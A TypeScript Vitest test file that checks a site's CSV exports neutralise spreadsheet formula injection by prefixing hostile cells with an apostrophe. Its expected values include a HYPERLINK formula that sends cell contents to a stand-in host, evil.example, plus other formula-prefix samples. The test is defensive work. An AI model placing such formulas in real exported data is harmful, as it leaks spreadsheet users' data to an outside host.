// Every CSV the site publishes, from one writer (src/lib/export/csv.ts): built from the catalogue's
// case of cells that begin as spreadsheet formulas (tests/fixtures/bad/123-csv-formula-cells:
// measure sentences, an actor's description, a tag's rationale and quote), each file has the
// byte-order mark and CRLF, and no cell a spreadsheet would run as a formula: each such cell is
// written with an apostrophe before it, as /data/ says.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/lib/export/csv.ts';

const CASE = 'tests/fixtures/bad/123-csv-formula-cells';
const scratch = mkdtempSync(join(tmpdir(), 'csv-site-'));
const out = join(scratch, 'dist');
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** The CSV routes of the site: every src/pages/data/<name>.csv.ts. */
const routes = readdirSync('src/pages/data')
  .filter((n) => n.endsWith('.csv.ts'))
  .map((n) => n.replace(/\.ts$/, ''))
  .sort();
/** What a spreadsheet would run as a formula (the writer's rule), and a number, which it would not. */
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u;
const NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

const files = new Map<string, string>();
beforeAll(() => {
  execFileSync(process.execPath, ['scripts/build.ts'], {
    env: { ...process.env, CONTENT_DIR: CASE, ASTRO_OUT_DIR: out, POLICY_READER_TODAY: '2025-06-01' },
    stdio: 'pipe',
    timeout: 180_000,
  });
  for (const name of readdirSync(join(out, 'data')).filter((n) => n.endsWith('.csv')))
    files.set(name, readFileSync(join(out, 'data', name), 'utf8'));
}, 200_000);

describe('every CSV export', () => {
  it('is built for each CSV route, and no other CSV is published', () => {
    expect(routes.length).toBeGreaterThanOrEqual(5);
    expect([...files.keys()].sort()).toEqual(routes);
  });

  it('is UTF-8 with a byte-order mark and CRLF line ends', () => {
    for (const [name, text] of files) {
      expect(text.startsWith('\uFEFF'), name).toBe(true);
      expect(text.endsWith('\r\n'), name).toBe(true);
      // No bare CR or LF: this case's cells hold no line break of their own.
      expect(/\r(?!\n)|(?<!\r)\n/.test(text), name).toBe(false);
    }
  });

  it('holds no cell a spreadsheet would run as a formula', () => {
    for (const [name, text] of files) {
      for (const row of parseCsv(text))
        for (const cell of row) expect(FORMULA.test(cell) && !NUMBER.test(cell), `${name}: ${cell}`).toBe(false);
    }
  });

  it('writes each hostile cell with an apostrophe before its text, the text otherwise as printed', () => {
    const cells = (name: string) => parseCsv(files.get(name)!).flat();
    const measures = cells('measures.csv');
    for (const text of [
      `'=HYPERLINK("http://evil.example/?"&A1,"点此")。测试机关负责。`,
      `'@SUM(1+1)由测试机关落实。`,
      `'-1+1，到2027年，测试机关确保培训100万人。`,
      `'＝1+1，测试机关负责。`,
    ])
      expect(measures).toContain(text);
    expect(cells('measure-actors.csv')).toEqual(
      expect.arrayContaining([`'=HYPERLINK("http://evil.example/?"&A1,"点此")`, `'@SUM(1+1)由测试机关`]),
    );
    expect(cells('codings.csv')).toContain(`'@SUM(1+1)由测试机关`);
    expect(cells('codebook.csv').filter((c) => c.startsWith(`'-1+1 一个测试用的机关。`))).toHaveLength(1);
    expect(cells('targets.csv')).toContain(`'-1+1，到2027年，测试机关确保培训100万人。`);
  });

  it('is described on /data/ with the rule', () => {
    const page = readFileSync(join(out, 'data/index.html'), 'utf8');
    expect(page).toMatch(/data-csv-rule[^>]*>本页所有 CSV 文件写法相同：UTF-8（带 BOM/);
    expect(page).toContain('前面加一个英文单引号');
  });
});
